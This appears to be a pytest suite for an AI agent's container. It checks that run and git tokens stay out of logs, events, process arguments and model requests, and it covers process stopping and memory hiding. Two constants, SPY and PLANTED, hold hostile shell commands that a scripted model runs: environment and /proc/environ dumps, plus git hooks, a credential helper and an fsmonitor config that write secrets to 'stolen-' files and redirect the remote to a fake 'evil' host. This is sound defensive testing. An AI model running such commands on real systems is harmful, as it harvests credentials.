"""The agent as its container runs it: a process of its own, told by signals, keeping its credentials to itself."""

import asyncio
import contextlib
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import AsyncGenerator
from pathlib import Path

import pytest

from agent_container import harden as harden_module
from shared.adapters.process_host import ProcessHost
from shared.core.ports import JobSpec
from tests.agent.conftest import Agent, end
from tests.agent.platform_api import RUN_ID, PlatformApi
from tests.agent.scripted_model import finish, turn, use
from tests.requires import require

SPY = (
    "env; cat .git/config; git remote -v; git config --list --show-origin; "
    "cat /proc/*/environ | tr '\\0' '\\n' | grep -c RUN_TOKEN; ls -R ~ | head -50; true"
)
PLANTED = """
mkdir -p hooks && for hook in pre-push reference-transaction pre-commit post-commit; do
  printf '#!/bin/sh\\nenv > "%s/stolen-'$hook'"\\n' "$PWD" > .git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config credential.helper '!env > '"$PWD"'/stolen-helper; cat > '"$PWD"'/stolen-answer; :'
git config core.fsmonitor "env > $PWD/stolen-fsmonitor; false"
git config url.http://127.0.0.1:1/.insteadOf http://
git config http.proxy http://127.0.0.1:1
git config remote.origin.url http://127.0.0.1:1/evil
"""


@contextlib.asynccontextmanager
async def running(agent: Agent) -> AsyncGenerator[asyncio.subprocess.Process]:
    process = await agent.start()
    try:
        yield process
    finally:
        end(process)
        await process.wait()


async def watch_arguments(seen: set[str]) -> None:
    """Collects the command lines of all processes until cancelled."""
    while True:
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                with contextlib.suppress(OSError):
                    seen.add(Path("/proc", entry, "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace"))
        await asyncio.sleep(0.005)


class TestCredentials:
    async def test_no_token_anywhere(self, api: PlatformApi, agent: Agent) -> None:
        """Not in events, log, arguments, the checkout, the model's requests or what its commands can print."""
        echo = use("bash", command=f"echo {api.run_token}")
        api.model.turns = [
            turn(use("bash", command=SPY), echo, use("create", path="a.txt", content="a\n")),
            turn(finish(f"Done with {api.run_token}")),
        ]
        seen: set[str] = set()
        watcher = asyncio.create_task(watch_arguments(seen))
        async with running(agent) as process:
            output, _ = await asyncio.wait_for(process.communicate(), 60)
        watcher.cancel()
        log = output.decode()
        assert process.returncode == 0, log
        assert any("clone" in line for line in seen)
        assert len(api.git_tokens) >= 2
        secrets = [api.run_token, *api.git_tokens]
        shell = {line for line in seen if f"echo {api.run_token}" in line}
        told = [str(api.events), str(api.completions), log, *(seen - shell)]
        told += [str(request["messages"][2:]) for request in api.model.requests]
        told += [path.read_text(errors="replace") for path in agent.home.rglob("*") if path.is_file()]
        for secret in secrets:
            assert not [text for text in told if secret in text]
        assert "[secret removed]" in api.completion["summary"]

    async def test_what_the_model_plants_in_git_gets_nothing(self, api: PlatformApi, agent: Agent) -> None:
        api.model.turns = [turn(use("create", path="a.txt", content="a\n")), turn(use("bash", command=PLANTED))]
        api.model.turns.append(turn(finish()))
        async with running(agent) as process:
            output, _ = await asyncio.wait_for(process.communicate(), 60)
        assert process.returncode == 0, output.decode()
        stolen = {path.name: path.read_text() for path in agent.checkout.glob("stolen-*")}
        assert not {"stolen-pre-push", "stolen-helper", "stolen-answer"} & stolen.keys()
        for text in stolen.values():
            assert "KANBAN" not in text
            assert not [secret for secret in (api.run_token, *api.git_tokens) if secret in text]
        assert api.completion["outcome"] == "succeeded"


class TestHost:
    async def test_the_process_driver_runs_it_and_stops_it(self, api: PlatformApi, tmp_path: Path) -> None:
        """The same contract as a container: the job ends with the run's exit code, or says that it was stopped."""
        host = ProcessHost(tmp_path / "host")
        env = {"API_URL": api.base_url, "RUN_ID": RUN_ID, "RUN_TOKEN": api.run_token}
        api.model.turns = [turn(use("bash", command="sleep 300"))]
        await host.start_job(JobSpec("run_1", "t0", ("agent_container",), env))
        async with asyncio.timeout(40):
            while not api.of_kind("tool_use"):
                await asyncio.sleep(0.05)
        await host.stop_job("run_1")
        job = await host.job("run_1")
        assert job
        assert (job.status, job.exit_code) == ("exited", 1)
        assert "run failed: The container was stopped." in job.log_tail
        assert api.completion["reason"] == "The container was stopped."


class TestMemory:
    def test_another_process_of_the_user_cannot_read_the_environment(self) -> None:
        """Root may read everything, so under root both processes run as nobody."""
        require(sys.platform == "linux", "This needs Linux: run the tests there or in a container.")
        python = shutil.which("python3", path="/usr/bin:/usr/local/bin")
        require(python is not None, "Install python3 for all users (apt-get install python3).")
        code = (
            Path(harden_module.__file__).read_text()
            + "\nhide_memory()\nprint('hidden', flush=True)\nsys.stdin.read()\n"
        )
        user = 65534 if os.geteuid() == 0 else None
        hidden = subprocess.Popen(
            [str(python), "-c", code],
            env={"RUN_TOKEN": "tok"},
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            user=user,
        )
        with hidden:
            assert hidden.stdout
            assert hidden.stdout.readline() == b"hidden\n"
            reader = subprocess.run(["cat", f"/proc/{hidden.pid}/environ"], capture_output=True, user=user)
        assert b"tok" not in reader.stdout
        assert reader.returncode != 0


class TestStopping:
    @pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
    async def test_a_stopped_container_says_so(self, api: PlatformApi, agent: Agent, number: signal.Signals) -> None:
        api.model.turns = [turn(use("bash", command="echo $$ > ../pid; sleep 300"))]
        async with running(agent) as process:
            pid = agent.checkout.parent / "pid"
            async with asyncio.timeout(30):
                while not pid.exists() or not pid.read_text():
                    await asyncio.sleep(0.05)
            process.send_signal(number)
            await asyncio.wait_for(process.communicate(), 8)
        assert process.returncode == 1
        assert api.completion["reason"] == "The container was stopped."
        assert not Path(f"/proc/{pid.read_text().strip()}").exists()

    async def test_an_incomplete_environment_is_named(self, api: PlatformApi, agent: Agent) -> None:
        api.run_token = ""
        async with running(agent) as process:
            output, _ = await process.communicate()
        assert process.returncode == 2
        assert output.decode().strip() == "RUN_TOKEN is not set. The platform sets it when it starts the container."
